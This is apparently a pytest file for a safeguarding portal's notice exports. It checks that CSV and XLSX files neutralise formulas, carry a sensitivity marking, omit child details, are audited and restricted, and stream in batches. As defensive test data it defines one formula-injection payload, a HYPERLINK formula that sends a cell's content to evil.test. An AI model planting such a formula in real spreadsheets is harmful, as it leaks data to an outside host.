"""Property 21: exports are minimal, safe and restricted (docs/threats.md#property-21)."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import event, func, select
from sqlalchemy.orm import Session, selectinload

from portal.domain.categories import outcome_label
from portal.domain.dates import LONDON
from portal.domain.models import (
    Agency,
    AuditEvent,
    Notice,
    NoticeEvent,
    NoticeRecipient,
    NoticeStage,
    NoticeStatus,
    Partnership,
    Role,
    User,
)
from portal.domain.working_days import ENGLAND_AND_WALES_CALENDAR
from portal.infrastructure.db import one_of
from portal.services import chaser, exports, record, transitions
from portal.services.runtime import PortalServices
from portal.web.database import session_factory
from tests.helpers import (
    CANARY_NAME,
    CANARY_NARRATIVE,
    CANARY_NHS,
    Accounts,
    appendix1_answers,
    contact_id,
    raise_notice,
    sign_in,
)
from tests.services.builders import RAISING, World
from tests.services.test_transitions import CLOSURE

HOSTILE_AGENCY = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def test_neutralise_disarms_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "|", "%"):
        assert exports.neutralise(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert exports.neutralise("ROC-2026-0001") == "ROC-2026-0001"
    assert exports.neutralise(3) == "3" and exports.neutralise(None) == ""


def test_exports_are_minimal_safe_and_restricted(app: Flask, accounts: Accounts) -> None:
    # A raising agency whose name is a formula: its cell must arrive as text.
    with session_factory(app)() as db:
        rochdale = db.execute(select(Partnership).where(Partnership.slug == "rochdale")).scalar_one()
        db.add(Agency(partnership_id=rochdale.id, name=HOSTILE_AGENCY, sender_note="", position=99))
        db.commit()
    raiser = accounts.make(Role.PRACTITIONER, agency=HOSTILE_AGENCY)
    bm = accounts.make(Role.BUSINESS_MANAGER)
    client, manager = app.test_client(), app.test_client()
    sign_in(client, app, raiser)
    sign_in(manager, app, bm)
    _notice_id, reference = raise_notice(client, appendix1_answers(contact_id(app, "Rochdale Children's Social Care")))

    response = manager.get("/business/notices.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="ROC-notices-')
    assert "no-store" in response.headers["Cache-Control"]
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    # The header first, so a plain import works; the marking in the file name and the last row.
    assert rows[0] == list(exports.COLUMNS)
    assert rows[-1][0].startswith("OFFICIAL-SENSITIVE") and len(rows[-1]) == len(exports.COLUMNS)
    assert response.headers["Content-Disposition"].endswith('-OFFICIAL-SENSITIVE.csv"')
    [row] = rows[1:-1]
    assert row[0] == reference and row[5] == "'" + HOSTILE_AGENCY
    assert row[8] == "Stage 3" and row[10] == "Open"
    for secret in (CANARY_NAME, CANARY_NHS, CANARY_NHS.replace(" ", ""), CANARY_NARRATIVE, "29/02/2016", "2016-02-29"):
        assert secret not in text

    # Audited with its row count; nobody but the business unit may export (practitioners get 404).
    with session_factory(app)() as db:
        entry = db.execute(select(AuditEvent).where(AuditEvent.action == "notice.export")).scalar_one()
        assert (entry.actor_id, entry.outcome, entry.object_id) == (bm.id, "ok", "rows=1")
    assert client.get("/business/notices.csv").status_code == 404

    # A per-user cap: the eleventh export in an hour is refused and the refusal audited.
    for _ in range(exports.EXPORTS_PER_HOUR - 1):
        # Read to the end, as a WSGI server does: a streamed export holds its transaction until then.
        assert manager.get("/business/notices.csv").data.decode("utf-8-sig").startswith("Reference,")
    refused = manager.get("/business/notices.csv")
    assert refused.status_code == 429 and reference not in refused.get_data(as_text=True)
    with session_factory(app)() as db:
        outcomes = (
            db.execute(
                select(AuditEvent.outcome).where(AuditEvent.action == "notice.export", AuditEvent.actor_id == bm.id)
            )
            .scalars()
            .all()
        )
        assert outcomes.count("ok") == exports.EXPORTS_PER_HOUR and outcomes.count("denied") == 1


def test_the_register_as_xlsx_is_marked_disarmed_capped_and_audited(app: Flask, accounts: Accounts) -> None:
    with session_factory(app)() as db:
        rochdale = db.execute(select(Partnership).where(Partnership.slug == "rochdale")).scalar_one()
        db.add(Agency(partnership_id=rochdale.id, name=HOSTILE_AGENCY, sender_note="", position=99))
        db.commit()
    raiser = accounts.make(Role.PRACTITIONER, agency=HOSTILE_AGENCY)
    bm = accounts.make(Role.BUSINESS_MANAGER)
    client, manager = app.test_client(), app.test_client()
    sign_in(client, app, raiser)
    sign_in(manager, app, bm)
    _notice_id, reference = raise_notice(client, appendix1_answers(contact_id(app, "Rochdale Children's Social Care")))

    # Offered beside the CSV on the business unit's list.
    assert 'href="/business/notices.xlsx"' in manager.get("/business/notices").get_data(as_text=True)
    response = manager.get("/business/notices.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    assert response.headers["Content-Disposition"].endswith('-OFFICIAL-SENSITIVE.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    assert sheet is not None
    rows = [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]
    # The header first, one row per notice, the marking last; the same cells as the CSV.
    assert rows[0] == list(exports.COLUMNS)
    [row] = rows[1:-1]
    assert row[0] == reference and row[5] == "'" + HOSTILE_AGENCY and row[8] == "Stage 3"
    assert isinstance(row[exports.COLUMNS.index("Working days open")], int)
    assert rows[-1][0] == exports.MARKING
    assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE"
    assert sheet.oddFooter.center.text == "OFFICIAL-SENSITIVE"
    # No cell is a formula, and no child's detail is in the file.
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    text = " ".join(str(cell) for line in rows for cell in line)
    for secret in (CANARY_NAME, CANARY_NHS, CANARY_NHS.replace(" ", ""), CANARY_NARRATIVE):
        assert secret not in text

    # Audited with its row count and format; practitioners get 404; the CSV and XLSX share the hourly cap.
    with session_factory(app)() as db:
        entry = db.execute(select(AuditEvent).where(AuditEvent.action == "notice.export")).scalar_one()
        assert (entry.actor_id, entry.outcome, entry.object_id) == (bm.id, "ok", "rows=1 format=xlsx")
    assert client.get("/business/notices.xlsx").status_code == 404
    for _ in range(exports.EXPORTS_PER_HOUR - 1):
        assert manager.get("/business/notices.csv").status_code == 200
    assert manager.get("/business/notices.xlsx").status_code == 429


def register_as_before(db: Session, services: PortalServices, user: User) -> bytes:
    """The register as the portal built it before it streamed (every notice loaded at once): the reference
    the streamed file must match byte for byte."""
    notices = (
        db.execute(
            select(Notice)
            .where(Notice.partnership_id == user.partnership_id)
            .options(
                selectinload(Notice.stages),
                selectinload(Notice.recipients).selectinload(NoticeRecipient.agency),
                selectinload(Notice.raising_agency),
                selectinload(Notice.partnership),
            )
            .order_by(Notice.submitted_at)
        )
        .scalars()
        .all()
    )
    chases = dict(
        db.execute(
            select(NoticeEvent.notice_id, func.count())
            .where(NoticeEvent.kind == "chased", NoticeEvent.notice_id.in_([n.id for n in notices]))
            .group_by(NoticeEvent.notice_id)
        ).all()
    )
    today = services.today()
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(exports.COLUMNS)
    for n in notices:
        procedure = record.procedure_of(n)
        current = n.current_stage
        open_now = n.is_open and current is not None and current.ended_at is None
        due = current.due_on if open_now and current is not None else None
        raised_on = n.submitted_at.astimezone(LONDON).date()
        ended = n.closed_at.astimezone(LONDON).date() if n.closed_at else today
        cells = [
            n.reference,
            n.partnership.name,
            n.procedure_version,
            n.date_of_notification.isoformat(),
            raised_on.isoformat(),
            n.raising_agency.name if n.raising_agency else "",
            "; ".join(dict.fromkeys(r.agency.name for r in n.recipients)),
            "; ".join(procedure.stage(s.stage).name for s in n.stages),
            procedure.stage(n.stage).name,
            "Yes" if any(s.skipped_from for s in n.stages) else "No",
            NoticeStatus(n.status).label,
            due.isoformat() if due else "",
            "Yes" if due is not None and due < today else "No",
            chases.get(n.id, 0),
            n.closed_at.astimezone(LONDON).date().isoformat() if n.closed_at else "",
            ENGLAND_AND_WALES_CALENDAR.working_days_between(raised_on, ended),
            # Rochdale's form has no code lists; the outcome and closure flags as the closer recorded them.
            "",
            "",
            outcome_label(n.outcome_code) if n.closed_at else "",
            ("Yes" if n.debrief_held else "No") if n.closed_at else "",
            ("Yes" if n.learning_flagged else "No") if n.closed_at else "",
        ]
        writer.writerow([exports.neutralise(c) for c in cells])
    writer.writerow([exports.MARKING] + [""] * (len(exports.COLUMNS) - 1))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def test_the_register_streams_in_batches_and_its_file_is_unchanged(
    app: Flask, accounts: Accounts, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = World(app)
    raiser = accounts.make(Role.PRACTITIONER, agency=RAISING)
    bm = accounts.make(Role.BUSINESS_MANAGER)
    made = [world.raise_rochdale(raiser) for _ in range(7)]
    # Variety the register shows: an escalated and closed notice, and chased ones (overdue in 2027).
    with world.session() as db:
        transitions.escalate(
            db,
            world.services,
            world.user(db, raiser),
            made[0].id,
            to_stage="stage-4",
            reason="No strategy discussion after the review",
            immediate_risk=False,
            referral="",
            skip_reason="",
            chosen=[],
        )
    with world.session() as db:
        transitions.close(
            db, world.services, world.user(db, bm), made[0].id, closure=CLOSURE, outcome="resolved-by-agreement"
        )
    with world.session() as db:
        # Rochdale sets no timescale of its own: give three open stages a due date, then chase them twice.
        for stage in db.execute(select(NoticeStage).where(NoticeStage.notice_id.in_([n.id for n in made[1:4]]))):
            stage[0].due_on = date(2026, 12, 4)
        db.commit()
        assert chaser.chase_overdue(db, world.services, today=date(2026, 12, 7)) == 3
        assert chaser.chase_overdue(db, world.services, today=date(2026, 12, 14)) == 3
    world.services.clock.fixed = date(2026, 12, 15)
    with world.session() as db:
        expected = register_as_before(db, world.services, world.user(db, bm))

    monkeypatch.setattr(exports, "BATCH_SIZE", 3)
    engine = app.extensions["portal.engine"]
    stage_reads: list[str] = []
    register_cursors: list[str] = []

    def seen(_conn: Any, cursor: Any, statement: str, *_args: Any) -> None:
        if "FROM notice_stage" in statement:
            stage_reads.append(statement)
        elif "notice.reference" in statement and "ORDER BY notice.submitted_at" in statement:
            register_cursors.append(type(cursor).__name__)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        with world.session() as db:
            _name, chunks = exports.export_register(db, world.services, world.user(db, bm))
            assert not isinstance(chunks, bytes | list)  # a generator: nothing is built until it is read
            header = next(chunks)
            assert header.decode("utf-8-sig").startswith("Reference,") and stage_reads == []
            body = list(chunks)
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    # Seven notices in batches of three: three batches, each one chunk and one read of its stages only; then
    # the marking.
    assert len(body) == 4 and len(stage_reads) == 3
    # On PostgreSQL the register is read through a server-side cursor, a batch at a time, never fetched whole.
    assert register_cursors == (["ServerCursor"] if engine.dialect.name == "postgresql" else ["Cursor"])
    assert header + b"".join(body) == expected
    text = expected.decode("utf-8-sig")
    assert ",Closed," in text and ",2," in text and ",Yes," in text and text.count("\r\n") == 2 + 7

    # Over HTTP the response is streamed, and is the same file.
    client = app.test_client()
    sign_in(client, app, bm)
    response = client.get("/business/notices.csv")
    assert response.is_streamed and response.data == expected
    # Once the last chunk is sent the read is over: no connection is left holding a transaction.
    assert engine.pool.checkedout() == 0


def test_a_batch_of_ids_binds_as_one_parameter_and_refuses_a_comma(app: Flask, accounts: Accounts) -> None:
    """one_of sends a batch of ids as one text parameter on PostgreSQL (split there on commas), so an id holding
    a comma would be read as two: it is refused, not misread. On SQLite it is a plain IN."""
    world = World(app)
    raiser = accounts.make(Role.PRACTITIONER, agency=RAISING)
    made = [world.raise_rochdale(raiser) for _ in range(3)]
    with world.session() as db:
        wanted = [made[0].id, made[2].id]
        found = db.scalars(select(Notice.id).where(one_of(db, Notice.id, wanted))).all()
        assert sorted(found) == sorted(wanted)
        assert db.scalars(select(Notice.id).where(one_of(db, Notice.id, []))).all() == []
        if db.get_bind().dialect.name == "postgresql":
            with pytest.raises(ValueError, match="comma"):
                one_of(db, Notice.id, [made[0].id, f"{made[1].id},{made[2].id}"])
